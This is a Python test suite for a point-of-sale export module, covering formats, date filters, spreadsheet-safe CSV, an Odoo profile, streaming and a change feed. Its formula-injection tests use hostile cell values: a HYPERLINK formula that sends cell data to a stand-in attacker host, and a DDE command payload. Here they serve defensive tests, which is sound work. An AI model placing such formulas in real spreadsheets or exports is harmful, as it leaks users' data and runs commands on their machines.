"""`pos export`: every kind in every format, values as other programs read them, safe in a
spreadsheet, streamed a chunk at a time; the change feed read from a cursor."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pos_tui import models
from pos_tui.db import now
from pos_tui.errors import ValidationError
from pos_tui.services import customers, events, exports, store
from tests.data_helpers import make_activity

TABLES = {"customers": models.Customer, "orders": models.Order, "order-lines": models.OrderLine,
          "payments": models.Payment, "invoices": models.Invoice, "loyalty": models.LoyaltyEntry,
          "sessions": models.PosSession}


def export(kind: str, **options) -> str:
    out = io.StringIO(newline="")
    exports.export(kind, out, exports.Options(**options))
    return out.getvalue()


def csv_rows(text: str, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def parse(kind: str, fmt: str, **options) -> list[dict]:
    text = export(kind, fmt=fmt, **options)
    if fmt == "csv":
        return csv_rows(text)
    if fmt == "json":
        return json.loads(text, parse_float=Decimal)
    return [json.loads(line, parse_float=Decimal) for line in text.splitlines()]


@pytest.fixture
def activity(shop):
    return make_activity()


# Every kind, every format ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", exports.FORMATS)
@pytest.mark.parametrize("kind", exports.KINDS)
def test_every_kind_in_every_format_has_every_row(activity, kind, fmt):
    rows = parse(kind, fmt)
    assert len(rows) == TABLES[kind].select().count() > 0
    assert [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)
    names = exports.table_for(kind).columns
    assert list(rows[0]) == [c.name for c in names]


def test_json_numbers_are_numbers_and_times_iso_8601(activity):
    orders = {o["id"]: o for o in parse("orders", "json")}
    sale, refund = orders[activity.invoiced_order_id], orders[activity.refund_order_id]
    assert sale["total"] == Decimal("9.00") and isinstance(sale["total"], Decimal)
    assert refund["total"] == Decimal("-4.50")  # negative amounts stay numbers
    assert isinstance(sale["id"], int) and sale["invoice_requested"] is True and sale["voided_at"] is None
    assert sale["currency"] == "EUR"
    paid = datetime.fromisoformat(sale["paid_at"])
    assert paid.utcoffset() == timedelta(0)
    assert abs(paid.replace(tzinfo=None) - models.Order.get_by_id(sale["id"]).paid_at) < timedelta(seconds=1)
    assert len(sale["uuid"]) == 36 and sale["uuid"].count("-") == 4
    lines = parse("order-lines", "jsonl")
    assert all(isinstance(line["quantity"], int) and isinstance(line["unit_price"], Decimal) for line in lines)
    assert {line["tax_rate"] for line in lines} <= {Decimal(4), Decimal(10), Decimal(21)}


def test_csv_writes_numbers_unquoted_and_text_in_utf_8(activity):
    text = export("payments")
    refund_line = next(line for line in text.splitlines() if line.startswith(f"3,{activity.refund_order_id},"))
    assert ",-4.50," in refund_line and "'-4.50" not in refund_line
    company = [r for r in csv_rows(export("customers")) if r["id"] == str(activity.company_id)][0]
    assert company["name"] == "Ferretería Norte S.L." and company["is_company"] == "true"
    assert company["credit_limit"] == "100.00" and company["discount"] == "0"
    assert datetime.fromisoformat(company["created_at"]).utcoffset() == timedelta(0)
    assert export("customers").encode("utf-8").decode("utf-8")  # plain UTF-8, no byte order mark
    assert not export("customers").startswith("\ufeff")


def test_invoices_export_the_fiscal_snapshot(activity):
    invoices = {i["number"]: i for i in parse("invoices", "json")}
    invoice = invoices[activity.invoice_number]
    assert invoice["customer_name"] == "Ferretería Norte S.L." and invoice["customer_tax_id"] == "B85743219"
    credit = next(i for i in invoices.values() if i["kind"] == "credit_note")
    assert credit["corrects"] == activity.invoice_number and credit["total"] == Decimal("-4.50")


def test_sessions_and_loyalty(activity):
    [session] = parse("sessions", "json")
    assert session["opening_float"] == Decimal("100.00") and session["cash_difference"] == Decimal("0.00")
    assert session["cashier"] == "Ana"
    entries = parse("loyalty", "json")
    assert [(e["kind"], e["points"]) for e in entries] == [("earn", 9), ("reverse", -4), ("adjust", 5)]
    assert entries[0]["order_number"] == "T1-000001"


# --since / --until -------------------------------------------------------------------------------


def test_since_and_until_filter_by_day(shop):
    C = models.Customer
    for n, day in enumerate((date(2026, 1, 31), date(2026, 2, 1), date(2026, 2, 28), date(2026, 3, 1))):
        info = customers.create_customer({"name": f"Cliente Fecha {n}"}, allow_duplicates=True)
        C.update(created_at=datetime.combine(day, datetime.min.time()) + timedelta(hours=12)).where(
            C.id == info.id).execute()
    options = {"since": exports.day_start(date(2026, 2, 1)), "until": exports.day_start(date(2026, 3, 1))}
    for fmt in exports.FORMATS:
        names = [r["name"] for r in parse("customers", fmt, **options)]
        assert names == ["Cliente Fecha 1", "Cliente Fecha 2"]
    assert exports.count_rows("customers", exports.Options(**options)) == 2
    assert len(parse("customers", "csv", since=exports.day_start(date(2026, 2, 1)))) == 2 + 0 * 1 + 1 \
        + C.select().where(C.created_at >= exports.day_start(date(2026, 3, 2))).count()


def test_orders_are_dated_by_payment(activity):
    O = models.Order
    O.update(paid_at=datetime(2025, 6, 15, 10)).where(O.id == activity.plain_order_id).execute()
    june = parse("orders", "json", since=exports.day_start(date(2025, 6, 1)),
                 until=exports.day_start(date(2025, 7, 1)))
    assert [o["id"] for o in june] == [activity.plain_order_id]
    lines = parse("order-lines", "json", since=exports.day_start(date(2025, 6, 1)),
                  until=exports.day_start(date(2025, 7, 1)))
    assert {line["order_id"] for line in lines} == {activity.plain_order_id} and len(lines) == 2


# Spreadsheets ------------------------------------------------------------------------------------


def test_excel_csv_in_a_decimal_comma_locale(activity):
    assert store.get_store().locale.startswith(("es", "en_ES"))
    text = export("orders", fmt="csv", excel=True)
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = csv_rows(text, delimiter=";")
    refund = next(r for r in rows if r["id"] == str(activity.refund_order_id))
    assert refund["total"] == "-4,50" and refund["net"].startswith("-")
    assert len(refund["paid_at"]) == 19 and datetime.strptime(refund["paid_at"], "%Y-%m-%d %H:%M:%S")


def test_excel_csv_in_a_decimal_point_locale(database):
    store.setup_store("Corner Shop", "US", "USD", "Ann", "1234")
    customers.create_customer({"name": "Dana Smith", "credit_limit": "1250.5", "phone": "+1 212 555 0100"})
    text = export("customers", fmt="csv", excel=True)
    assert text.startswith("\ufeff")
    [row] = csv_rows(text)
    assert row["credit_limit"] == "1250.50" and row["currency"] == "USD"
    assert row["phone"] == "'+1 212 555 0100"  # a spreadsheet would compute it
    [plain] = csv_rows(export("customers"))
    assert plain["phone"] == "+1 212 555 0100"  # other programs read phone numbers as they are


def test_excel_is_for_csv_only(shop):
    with pytest.raises(ValidationError):
        export("customers", fmt="json", excel=True)


# Formula injection ---------------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Haz clic")', "+1", "-x", "@SUM(A1:A9)", "\tTab S.L.",
             "\rRetorno", "=1+2", "'=already quoted"]


@pytest.mark.parametrize("excel", [False, True])
def test_text_a_spreadsheet_would_run_is_neutralised(shop, excel):
    ids = {}
    for name in DANGEROUS:
        C = models.Customer
        info = customers.create_customer({"name": f"Cliente {len(ids)}"}, allow_duplicates=True)
        C.update(name=name, notes=name, city=name).where(C.id == info.id).execute()
        ids[info.id] = name
    delimiter = ";" if excel else ","
    rows = {int(r["id"]): r for r in csv_rows(export("customers", excel=excel), delimiter)}
    for customer_id, name in ids.items():
        for column in ("name", "notes", "city"):
            cell = rows[customer_id][column]
            assert cell == "'" + name, (column, cell)
            assert exports.unneutralise(cell) == name
    # the same values in JSON are data, not cells: as they are
    by_id = {r["id"]: r for r in parse("customers", "json")}
    assert {by_id[i]["name"] for i in ids} == set(DANGEROUS)


def test_the_odoo_profile_and_events_csv_are_neutralised_too(shop):
    C = models.Customer
    info = customers.create_customer({"name": "Eva Luna", "phone": "612 000 111"})
    C.update(name="=cmd|' /C calc'!A0").where(C.id == info.id).execute()
    [row] = [r for r in csv_rows(export("customers", profile="odoo")) if r["ref"] == str(info.id)]
    assert row["name"] == "'=cmd|' /C calc'!A0"
    customers.update_customer(info.id, {"city": "@Sevilla"})
    out = io.StringIO()
    exports.export_events(out, after=events.last_cursor() - 1, fmt="csv")
    [event] = csv_rows(out.getvalue())
    assert json.loads(event["payload"])["city"] == "@Sevilla" and event["kind"] == "customer.updated"


@given(st.text(max_size=12))
def test_neutralise_then_unneutralise_gives_the_text_back(text):
    cell = exports.neutralise(text)
    assert exports.unneutralise(cell) == text
    assert not cell or cell[0] not in exports.FORMULA_START


def test_phone_numbers_stay_readable_in_plain_csv_only():
    assert exports.neutralise("+34 612 000 111", strict=False) == "+34 612 000 111"
    assert exports.neutralise("+34 612 000 111") == "'+34 612 000 111"
    assert exports.neutralise("+1+cmd", strict=False) == "'+1+cmd"
    assert exports.neutralise("-", strict=False) == "'-"


# Odoo ----------------------------------------------------------------------------------------------


def test_the_odoo_profile_writes_odoo_contact_columns(activity):
    rows = csv_rows(export("customers", profile="odoo"))
    assert list(rows[0]) == list(exports.ODOO_COLUMNS)
    for column in ("name", "email", "phone", "mobile", "street", "street2", "city", "zip", "state_id",
                   "country_id", "vat", "is_company", "lang"):
        assert column in rows[0]
    company = next(r for r in rows if r["ref"] == str(activity.company_id))
    assert (company["name"], company["vat"], company["zip"], company["country_id"], company["is_company"],
            company["active"], company["comment"]) == (
        "Ferretería Norte S.L.", "B85743219", "28004", "", "true", "true", "Prefiere factura en papel")
    assert exports.odoo_language("es") == "es_ES" and exports.odoo_language("pt_BR") == "pt_BR"
    assert exports.from_odoo_language("es_ES") == "es" and exports.from_odoo_language("es_MX") == "es_MX"
    assert exports.country_code("base.es") == "ES" and exports.country_code("Spain") == "ES"
    assert exports.country_code("España") == "ES" and exports.country_code("base.uk") == "GB"
    with pytest.raises(ValidationError):
        export("orders", profile="odoo")


# Streaming -----------------------------------------------------------------------------------------


class Recorder(io.StringIO):
    """A text stream that notes how much had been written each time progress was reported."""

    def __init__(self):
        super().__init__(newline="")
        self.seen: list[tuple[int, int]] = []

    def progress(self, rows: int) -> None:
        self.seen.append((rows, len(self.getvalue())))


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_the_export_is_read_and_written_a_chunk_at_a_time(shop, monkeypatch, fmt):
    for n in range(23):
        customers.create_customer({"name": f"Cliente Lote {n}"}, allow_duplicates=True)
    total = models.Customer.select().count()
    monkeypatch.setattr(exports, "CHUNK", 10)
    fetched: list[int] = []
    real = exports.database.obj.execute_sql

    def spy(sql, params=None, *args, **kwargs):
        cursor = real(sql, params, *args, **kwargs)
        if "ORDER BY t." in sql:  # the export's own reads
            rows = cursor.fetchall()
            fetched.append(len(rows))

            class Done:
                def fetchall(self):
                    return rows
            return Done()
        return cursor

    monkeypatch.setattr(exports.database.obj, "execute_sql", spy)
    out = Recorder()
    result = exports.export("customers", out, exports.Options(fmt=fmt), out.progress)
    assert result.rows == total == 43
    assert fetched == [10, 10, 10, 10, 3]  # never more than a chunk in memory
    assert [rows for rows, _size in out.seen] == [10, 20, 30, 40, 43]
    sizes = [size for _rows, size in out.seen]
    assert sizes == sorted(sizes) and sizes[0] < sizes[-1]  # written as it goes, not at the end
    assert exports._rows.__code__.co_flags & 0x20  # a generator: rows come as they are read


# The change feed -------------------------------------------------------------------------------------


def feed(after: int, fmt: str = "jsonl", limit: int | None = None) -> tuple[list[dict], int]:
    out = io.StringIO()
    written, last = exports.export_events(out, after, fmt, limit)
    text = out.getvalue()
    docs = ([json.loads(line) for line in text.splitlines()] if fmt == "jsonl" else json.loads(text)
            if fmt == "json" else csv_rows(text))
    assert len(docs) == written
    return docs, last


def test_the_change_feed_is_read_incrementally_from_a_cursor(shop):
    start = events.last_cursor()
    first, cursor = feed(start)
    assert first == [] and cursor == start
    eva = customers.create_customer({"name": "Eva Luna", "email": "eva@example.es"})
    customers.update_customer(eva.id, {"city": "Cádiz"})
    docs, cursor = feed(start)
    assert [d["kind"] for d in docs] == ["customer.created", "customer.updated"]
    assert [d["cursor"] for d in docs] == [start + 1, start + 2] and cursor == start + 2
    assert datetime.fromisoformat(docs[0]["at"]).utcoffset() == timedelta(0)
    assert docs[1]["payload"]["city"] == "Cádiz" and docs[0]["entity_id"] == eva.id
    again, same = feed(cursor)
    assert again == [] and same == cursor  # nothing twice
    customers.archive_customer(eva.id)
    docs, cursor = feed(cursor)
    assert [(d["kind"], d["cursor"]) for d in docs] == [("customer.archived", start + 3)]


def test_the_feed_in_pages_with_a_limit_and_in_every_format(shop):
    everything, last = feed(0)
    assert [d["cursor"] for d in everything] == list(range(1, last + 1))
    seen, cursor = [], 0
    while True:
        page, cursor_after = feed(cursor, limit=7)
        if not page:
            break
        seen += page
        cursor = cursor_after
    assert seen == everything
    as_json, _ = feed(0, "json")
    assert as_json == everything
    as_csv, _ = feed(0, "csv")
    assert [int(r["cursor"]) for r in as_csv] == [d["cursor"] for d in everything]
    assert [json.loads(r["payload"]) for r in as_csv] == [d["payload"] for d in everything]
    with pytest.raises(ValidationError):
        feed(-1)


def test_a_bulk_of_events_takes_consecutive_cursors(shop):
    from pos_tui.db import write

    start = events.last_cursor()
    with write():
        events.emit_many([("customer.created", "customer", n, {"n": n}) for n in range(1200)])
        events.emit("customer.updated", "customer", 1, {})
        assert events.last_cursor() == start  # numbered and written as the transaction commits
    E = models.Event
    told = list(E.select(E.cursor, E.kind).where(E.cursor > start).order_by(E.cursor).tuples())
    assert [c for c, _k in told] == list(range(start + 1, start + 1202)) and told[-1][1] == "customer.updated"
    docs, last = feed(start)
    assert [d["payload"].get("n") for d in docs[:1200]] == list(range(1200)) and last == start + 1201
    assert now() - events.after(start, 1)[0].at < timedelta(minutes=1)


@given(st.integers(min_value=-10**15, max_value=10**15), st.sampled_from([0, 2, 3]), st.booleans())
def test_amounts_are_written_digit_for_digit(minor, exp, comma):
    money = (exports.Column("amount", "", exports.MONEY), exports.Column("rate", "", exports.PERCENT))
    exact = format(Decimal(minor).scaleb(-exp), "f")
    rate = format(exports.percent(minor), "f")
    cells = exports._compile(money, exports.Options(excel=comma), exp, comma)((0, minor, minor))
    assert cells == ((exact, rate) if not comma else (exact.replace(".", ","), rate.replace(".", ",")))
    text = exports._compile(money, exports.Options(fmt="json"), exp, False)((0, minor, minor))
    assert json.loads(text, parse_float=Decimal) == {"amount": Decimal(exact), "rate": Decimal(rate)}
    assert exports._compile(money, exports.Options(fmt="json"), exp, False)((0, None, None)) == (
        '{"amount":null,"rate":null}')


def test_times_in_the_feed_say_they_are_utc(activity):
    docs, _last = feed(0)
    paid = next(d for d in docs if d["kind"] == "sale.paid")
    assert datetime.fromisoformat(paid["payload"]["paid_at"]).utcoffset() == timedelta(0)
    earned = next(d for d in docs if d["kind"] == "loyalty.entry")
    assert datetime.fromisoformat(earned["payload"]["at"]).utcoffset() == timedelta(0)
